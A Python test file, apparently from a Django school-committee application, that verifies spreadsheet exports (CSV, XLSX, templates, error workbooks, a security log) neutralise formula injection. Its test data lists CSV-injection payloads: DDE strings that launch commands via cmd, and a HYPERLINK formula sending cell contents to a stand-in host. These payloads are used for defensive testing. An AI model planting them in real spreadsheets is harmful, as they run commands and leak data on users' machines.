"""No cell that goes out is a formula: two places write tables, both as text, and nobody else writes any."""

import ast
import csv
import io

import openpyxl
import pytest

from committees.workbooks.error_book import Mark, build_error_book
from committees.workbooks.exports import rows_to_csv, sheets_to_xlsx
from committees.workbooks.safe_text import starts_formula
from committees.workbooks.templates import Column, Identity, Kind, Layout, Row, Sheet
from committees.workbooks.writer import build_workbook
from tenants.models import SecurityAction, User
from tests.ground.clients import association_client
from tests.ground.databases import OWN, ROOT

pytestmark = pytest.mark.requirement("G20")
DDE = ("=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0")
HOSTILE = (
    *DDE, '=HYPERLINK("https://a.test/?x="&A1,"x")', '=WEBSERVICE("https://a.test")', "=IMPORTXML(1)", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1", "\u3000=1+1", "＝1+1", "＋1+x", "－1+x", "＠x", "%0A=1",
    '"=1+1', "';=1", "{=1+1}",
)  # fmt: skip
#: Who may write a table: the room of workbooks (and what names its cells), and the security log below it.
WRITERS = {"committees/workbooks/exports.py", "committees/workbooks/writer.py", "committees/workbooks/error_book.py",
           "committees/workbooks/sheet_reader.py", "committees/filings/school/workbook.py",
           "tenants/views/security.py"}  # fmt: skip
MODULES = ("xlsxwriter", "openpyxl")


def rows_of(content: bytes) -> list[list[str]]:
    """A CSV file as a spreadsheet takes it apart."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def cells_of(content: bytes) -> list[object]:
    """All cells of a workbook that hold something."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for page in book for row in page.iter_rows() for cell in row if cell.value is not None]


def faults_in(content: bytes) -> list[str]:
    """Cells that a spreadsheet evaluates, links that it follows."""
    if content.startswith(b"PK"):
        return [
            str(cell.value)
            for cell in cells_of(content)
            if cell.data_type == "f" or (cell.hyperlink and cell.hyperlink.target)
        ]
    return [cell for row in rows_of(content) for cell in row if starts_formula(cell)]


def test_tables_in_both_forms():
    rows = [[text, text] for text in HOSTILE]
    plain = rows_to_csv([*HOSTILE[:2]], rows)
    book = sheets_to_xlsx([("一", [*HOSTILE[:2]], rows), ("二", ["x"], [[text] for text in HOSTILE])])
    assert faults_in(plain.content) == faults_in(book.content) == []
    shown = {str(cell.value) for cell in cells_of(book.content)}
    assert {text for text in HOSTILE if text.isprintable()} <= shown, "in a workbook every text is as it was typed"
    assert all(any(text.strip() in cell for row in rows_of(plain.content) for cell in row) for text in DDE)


def test_the_finder_finds():
    """The control: written as they are, they are formulas."""
    out = io.StringIO()
    csv.writer(out).writerows([[text] for text in DDE])
    assert faults_in(out.getvalue().encode("utf-8-sig")) == list(DDE)
    book, kept = openpyxl.Workbook(), io.BytesIO()
    book.active.append(list(DDE))
    book.save(kept)
    assert faults_in(kept.getvalue()) == [DDE[0]]


def test_templates_and_error_workbooks():
    """The words of a form come from a committee, the values from a school: neither is evaluated at the other's."""
    rows = tuple(Row(f"row{number}", text, text, text) for number, text in enumerate(HOSTILE))
    columns = (Column("words", DDE[0], DDE[1], Kind.TEXT), Column("way", DDE[2], kind=Kind.CHOICE, choices=DDE))
    form = Layout(Identity(DDE[0], DDE[1], DDE[2], DDE[3], DDE[0]), DDE[0],
                  (Sheet("one", "=1+1", DDE[0], rows, columns, DDE[1]),))  # fmt: skip
    places = [place for place in form.places() if place[2] == "words"]
    values = dict(zip(places, HOSTILE, strict=True))
    marks = [Mark(place, text, text, text, text, text) for place, text in values.items()]
    marks += [Mark(None, text, text, text, text, text) for text in HOSTILE]
    template, errors = build_workbook(form, values), build_error_book(form, values, marks)
    assert faults_in(template) == faults_in(errors) == []
    for made in (template, errors):
        assert set(DDE) <= {str(cell.value) for cell in cells_of(made)}, "shown as typed"


@pytest.mark.django_db
def test_the_security_log(cast):
    from tenants.actions.security import record_event
    from tenants.clock import database_now

    for text in HOSTILE:
        User.objects.filter(pk=cast["head_a"].pk).update(name=text[:64])
        record_event(action=SecurityAction.EXPORTED, user=cast["head_a"], at=database_now(), reason=text, what=text)
        answer = association_client(cast["audit_admin"]).get("/office/security/export/")
        assert faults_in(b"".join(answer.streaming_content)) == []


def test_nobody_else_writes_tables():
    found = set()
    for top in OWN:
        for path in (ROOT / top).rglob("*.py"):
            names = {name for node in ast.walk(ast.parse(path.read_text())) for name in _tables(node)}
            if names and "tests" not in path.parts:
                found.add(str(path.relative_to(ROOT)))
    assert found - WRITERS == set(), "hand the rows to committees/workbooks/exports.py"


def _tables(node: ast.AST) -> list[str]:
    if isinstance(node, ast.ImportFrom):
        return [node.module or ""] if (node.module or "").startswith(MODULES) else []
    if isinstance(node, ast.Import):
        return [name.name for name in node.names if name.name.startswith(MODULES)]
    is_csv = isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
    return ["csv"] if is_csv and isinstance(node.value, ast.Name) and node.value.id == "csv" else []
